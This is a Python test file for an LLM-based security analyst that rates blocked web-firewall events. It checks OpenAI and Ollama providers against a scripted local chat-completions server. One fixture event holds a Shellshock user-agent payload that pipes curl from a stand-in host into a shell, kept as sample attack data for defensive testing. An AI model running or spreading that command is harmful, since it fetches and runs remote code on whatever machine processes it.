"""The openai and ollama providers against a local OpenAI-compatible server.

The server speaks ``POST /v1/chat/completions`` on 127.0.0.1, both as one JSON response
and as server-sent events, the way vLLM, llama.cpp and Ollama's ``/v1`` do.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest
from pydantic import SecretStr

from agent_runtime.analyst import SecurityAnalyst
from agent_runtime.prompt_safety import FENCE_CLOSE, FENCE_OPEN, SYSTEM_PROMPT
from agent_runtime.providers import DEFAULT_OLLAMA_BASE_URL, ProviderConfig, build_model
from secops_core.contract import Header, SeverityFloorInfo, WafEvent
from tests.fixtures.scripted_http import Reply, ScriptedHTTPServer

MODEL_ID = "llama3.1:8b"

EVENT = WafEvent(
    event_key="evt#openai-1",
    source_format="simplified",
    event_id="openai-1",
    timestamp=datetime(2025, 3, 1, 12, 0, tzinfo=UTC),
    action="BLOCK",
    source_ip="198.51.100.23",
    country="DE",
    http_method="POST",
    uri="/cgi-bin/status",
    user_agent="() { :; }; /bin/bash -c 'curl http://evil.example/x | sh'",
    headers=(Header(name="Cookie", value="session=SECRET-OPENAI-COOKIE"),),
    rule_name="UNIXShellCommandsVariables_HEADER",
    rule_group="AWSManagedRulesLinuxRuleSet",
)
FLOOR = SeverityFloorInfo(
    severity=3,
    attack_class="command_injection",
    reason="a shell command injection match was blocked",
    rule="AWSManagedRulesLinuxRuleSet/UNIXShellCommandsVariables_HEADER",
)
ANSWER = {
    "severity_rating": 3,
    "security_analysis": "A Shellshock probe in the user agent was blocked by WAF.",
    "follow_up_suggestion": "Watch for repetition from this source.",
    "attack_type": "Shell command injection",
}


@dataclass
class Received:
    path: str
    headers: dict[str, str]
    body: dict[str, Any]

    @property
    def system_text(self) -> str:
        return _text(self.body["messages"][0]["content"])

    @property
    def user_text(self) -> str:
        return _text(self.body["messages"][1]["content"])


def _text(content: str | list[dict[str, Any]]) -> str:
    if isinstance(content, str):
        return content
    return "".join(part.get("text", "") for part in content)


class ChatCompletionsServer(ScriptedHTTPServer):
    """A scripted OpenAI-compatible ``/v1/chat/completions`` endpoint on 127.0.0.1."""

    def __init__(self) -> None:
        super().__init__(Received)
        self.base_url = f"{self.origin}/v1"


def _send_json(handler: BaseHTTPRequestHandler, status: int, payload: dict[str, Any]) -> None:
    data = json.dumps(payload).encode()
    handler.send_response(status)
    handler.send_header("Content-Type", "application/json")
    handler.send_header("Content-Length", str(len(data)))
    handler.end_headers()
    handler.wfile.write(data)


def _send_events(handler: BaseHTTPRequestHandler, chunks: list[dict[str, Any]]) -> None:
    data = b"".join(f"data: {json.dumps(chunk)}\n\n".encode() for chunk in chunks)
    data += b"data: [DONE]\n\n"
    handler.send_response(200)
    handler.send_header("Content-Type", "text/event-stream")
    handler.send_header("Content-Length", str(len(data)))
    handler.end_headers()
    handler.wfile.write(data)


USAGE = {"prompt_tokens": 900, "completion_tokens": 60, "total_tokens": 960}


def tool_call_reply(arguments: dict[str, Any]) -> Reply:
    """Answer with a SecurityAssessment tool call, as JSON or as SSE chunks."""
    encoded = json.dumps(arguments)

    def reply(handler: BaseHTTPRequestHandler, body: dict[str, Any]) -> None:
        base = {"id": "chatcmpl-1", "created": 1_700_000_000, "model": body["model"]}
        if not body.get("stream"):
            message = {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "call_1",
                        "type": "function",
                        "function": {"name": "SecurityAssessment", "arguments": encoded},
                    }
                ],
            }
            choice = {"index": 0, "message": message, "finish_reason": "tool_calls"}
            _send_json(
                handler, 200, {**base, "object": "chat.completion", "choices": [choice], "usage": USAGE}
            )
            return
        chunk = {**base, "object": "chat.completion.chunk"}
        first_call = {
            "index": 0,
            "id": "call_1",
            "type": "function",
            "function": {"name": "SecurityAssessment", "arguments": ""},
        }
        half = len(encoded) // 2
        deltas = [
            {"role": "assistant", "tool_calls": [first_call]},
            {"tool_calls": [{"index": 0, "function": {"arguments": encoded[:half]}}]},
            {"tool_calls": [{"index": 0, "function": {"arguments": encoded[half:]}}]},
        ]
        chunks = [
            {**chunk, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas
        ]
        chunks.append({**chunk, "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
        chunks.append({**chunk, "choices": [], "usage": USAGE})
        _send_events(handler, chunks)

    return reply


def text_reply(text: str) -> Reply:
    def reply(handler: BaseHTTPRequestHandler, body: dict[str, Any]) -> None:
        message = {"role": "assistant", "content": text}
        choice = {"index": 0, "message": message, "finish_reason": "stop"}
        _send_json(
            handler,
            200,
            {
                "id": "chatcmpl-2",
                "object": "chat.completion",
                "created": 1_700_000_000,
                "model": body["model"],
                "choices": [choice],
                "usage": USAGE,
            },
        )

    return reply


def error_reply(status: int, code: str) -> Reply:
    def reply(handler: BaseHTTPRequestHandler, body: dict[str, Any]) -> None:
        _send_json(handler, status, {"error": {"message": f"{code} (scripted)", "code": code}})

    return reply


@pytest.fixture
def server() -> Iterator[ChatCompletionsServer]:
    with ChatCompletionsServer() as running:
        yield running


def config_for(server: ChatCompletionsServer, provider: str, **overrides: Any) -> ProviderConfig:
    fields: dict[str, Any] = {
        "provider": provider,
        "model_id": MODEL_ID,
        "base_url": server.base_url,
        "call_budget": 1,
    }
    fields.update(overrides)
    return ProviderConfig(**fields)


@pytest.mark.parametrize("streaming", [False, True], ids=["json", "sse"])
@pytest.mark.parametrize("provider", ["openai", "ollama"])
def test_tool_call_becomes_the_analysis(
    server: ChatCompletionsServer, provider: str, streaming: bool
) -> None:
    # GIVEN an OpenAI-compatible endpoint answering with a SecurityAssessment tool call
    server.replies.append(tool_call_reply({**ANSWER, "severity_rating": 4}))
    config = config_for(
        server, provider, streaming=streaming, api_key=SecretStr("sk-local-test"), max_tokens=600
    )

    # WHEN the analyst assesses the event
    analysis = SecurityAnalyst.from_config(config).analyze(EVENT, FLOOR)

    # THEN the request carried the model id, the system prompt and the fenced prompt
    assert len(server.received) == 1
    request = server.received[0]
    assert request.path == "/v1/chat/completions"
    assert request.headers["authorization"] == "Bearer sk-local-test"
    assert request.body["model"] == MODEL_ID
    assert request.body["stream"] is streaming
    assert request.body["temperature"] == 0.0
    assert request.body["max_tokens"] == 600
    assert request.body["messages"][0]["role"] == "system"
    assert request.system_text == SYSTEM_PROMPT
    assert request.user_text.count(FENCE_OPEN) == 1
    assert request.user_text.count(FENCE_CLOSE) == 1
    assert "/bin/bash -c" in request.user_text
    assert "SECRET-OPENAI-COOKIE" not in json.dumps(request.body)
    assert [tool["function"]["name"] for tool in request.body["tools"]] == ["SecurityAssessment"]
    # AND the tool call became the analysis
    assert analysis.severity_rating == 4
    assert analysis.model_severity == 4
    assert analysis.severity_floor == 3
    assert analysis.attack_type == "Shell command injection"
    assert analysis.analyzed_by == MODEL_ID


def test_a_prose_answer_is_forced_to_the_tool(server: ChatCompletionsServer) -> None:
    # GIVEN a local model that answers in prose first, as small models often do
    server.replies += [text_reply("This is Shellshock."), tool_call_reply(ANSWER)]

    analysis = SecurityAnalyst.from_config(config_for(server, "ollama", call_budget=2)).analyze(EVENT, FLOOR)

    assert analysis.model_severity == 3
    assert analysis.model_calls == 2
    assert server.received[1].body["tool_choice"] == {
        "type": "function",
        "function": {"name": "SecurityAssessment"},
    }


def test_rate_limit_is_a_degraded_throttled_analysis(server: ChatCompletionsServer) -> None:
    server.replies.append(error_reply(429, "rate_limit_exceeded"))

    analysis = SecurityAnalyst.from_config(config_for(server, "openai")).analyze(EVENT, FLOOR)

    assert (analysis.degraded_reason, analysis.severity_rating) == ("model_throttled", FLOOR.severity)
    # One request: the OpenAI client's own retries are off, the budget was 1.
    assert len(server.received) == analysis.model_calls == 1


def test_server_error_is_a_degraded_model_error(server: ChatCompletionsServer) -> None:
    server.replies.append(error_reply(500, "internal_error"))

    analysis = SecurityAnalyst.from_config(config_for(server, "openai")).analyze(EVENT, FLOOR)

    assert analysis.degraded_reason == "model_error"
    assert len(server.received) == analysis.model_calls == 1


def test_retries_follow_the_call_budget(server: ChatCompletionsServer) -> None:
    # GIVEN one throttled answer, then a good one, and two calls allowed
    server.replies += [error_reply(429, "rate_limit_exceeded"), tool_call_reply(ANSWER)]

    analyst = SecurityAnalyst.from_config(config_for(server, "openai", call_budget=2), retry_base_s=0)
    analysis = analyst.analyze(EVENT, FLOOR)

    assert analysis.model_severity == 3
    assert len(server.received) == analysis.model_calls == 2


def test_ollama_defaults_to_the_local_endpoint() -> None:
    model = build_model(ProviderConfig(provider="ollama", model_id=MODEL_ID))

    assert model.client_args["base_url"] == DEFAULT_OLLAMA_BASE_URL  # type: ignore[union-attr]
    assert model.client_args["api_key"] == "ollama"  # type: ignore[union-attr]
    assert model.get_config()["model_id"] == MODEL_ID  # type: ignore[union-attr]


def test_openai_key_falls_back_to_the_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-from-env")

    model = build_model(ProviderConfig(provider="openai", model_id="gpt-4o-mini"))

    assert model.client_args["api_key"] == "sk-from-env"  # type: ignore[union-attr]
